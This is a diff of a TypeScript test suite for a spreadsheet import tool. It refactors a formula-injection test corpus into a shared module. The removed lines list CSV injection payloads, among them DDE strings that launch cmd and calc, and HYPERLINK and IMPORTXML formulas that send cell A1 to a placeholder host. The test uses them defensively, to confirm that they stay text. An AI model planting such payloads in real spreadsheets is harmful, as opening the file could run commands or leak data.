@@ -3,11 +3,11 @@
  * Excel has), stops cleanly when cancelled, and never lets text from an export become a formula
  * or a number.
  */
+import { INJECTION_CORPUS, exportWith } from "../support/injection";
 import * as path from "path";
 import fc from "fast-check";
 import { reconcileImports } from "../../src/cli/run";
 import { scanFolder } from "../../src/cli/folder";
-import { Cell } from "../../src/domain/cells";
 import { ImportFile } from "../../src/domain/importer";
 import { GENERATED } from "../../src/layout/plan";
 import { WorkbookPlan } from "../../src/layout/types";
@@ -177,51 +177,9 @@ describe("cancelling", () => {
   });
 });
 
-/** Formula injection corpus (spec §5, issue 4), as in test/injection.test.ts, plus numbers and dates that must stay text. */
-const CORPUS: readonly string[] = [
-  "=1+1",
-  '=HYPERLINK("http://example.com/?"&A1,"click")',
-  "=cmd|' /C calc'!A0",
-  "+1+1",
-  "+cmd|' /C notepad'!A0",
-  "-1+1",
-  "-2",
-  "@SUM(1,1)",
-  " =1+1",
-  "  +1",
-  "\t=1+1",
-  "\n=1+1",
-  "\r\n@SUM(A1)",
-  "=",
-  "'=1+1",
-  "''quoted",
-  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
-  '=DDE("cmd";"/C calc";"x")',
-  "007",
-  "1,000",
-  "1e3",
-  "3/14",
-  "2026-11-24",
-  "TRUE",
-  "#N/A",
-  "50%",
-  "＝1+1",
-];
-
-function exportWith(payloads: readonly string[], account: string): ImportFile[] {
-  const header: Cell[] = ["Subscription ID", "Subscription", "Quantity", "Status", "Reseller", "Friendly name"];
-  const rows: Cell[][] = payloads.map((p, i) => [p, i % 2 ? p : "Office 365 E3", i % 3 ? "5" : p, i % 4 ? "Active" : p, p, p]);
-  return [
-    { path: `from/${account}/Contoso.csv`, role: "from", account, kind: "subscriptions", grid: [header, ...rows] },
-    { path: `from/${account}/=1+1.csv`, role: "from", account, kind: "subscriptions", grid: [header, ["x1", "=SUM(1)", "1", "Active", "", ""]] },
-    { path: "to/Contoso.csv", role: "to", account: "New", kind: "subscriptions", grid: [header, ["n1", "Office 365 E3", "5", "Active", "", ""]] },
-    { path: "offer-map.csv", role: "from", account: "", kind: "offerMap", grid: [["Old offer", "New offer"], ["=1+1", "@SUM(1)"]] },
-  ];
-}
-
 describe("formula injection", () => {
   test.each(["1.9", "1.7"])("every payload stays the text it was; the only formulas are the plan's (ExcelApi %s)", async (api) => {
-    const input = exportWith(CORPUS, `O'Brien "EU" & co`);
+    const input = exportWith(INJECTION_CORPUS, `O'Brien "EU" & co`);
     const b = bench({ api });
     await importAndReconcile(b, input);
     const out = reconcileImports(input, { asOf: AS_OF, fixedAsOf: true, runAt: RUN_AT.toISOString() });
@@ -235,8 +193,8 @@ describe("formula injection", () => {
         else if (typeof c.value === "string") texts.add(c.value);
       }
     }
-    for (const p of CORPUS) expect(texts.has(p)).toBe(true);
-    const bodies = CORPUS.map((p) => p.trim().replace(/^[=+\-@]/, ""));
+    for (const p of INJECTION_CORPUS) expect(texts.has(p)).toBe(true);
+    const bodies = INJECTION_CORPUS.map((p) => p.trim().replace(/^[=+\-@]/, ""));
     expect(formulas.filter((f) => bodies.includes(f.slice(1)) || /cmd\||example\.com|IMPORTXML|DDE\(|SUM\(1/.test(f))).toEqual([]);
   });
 
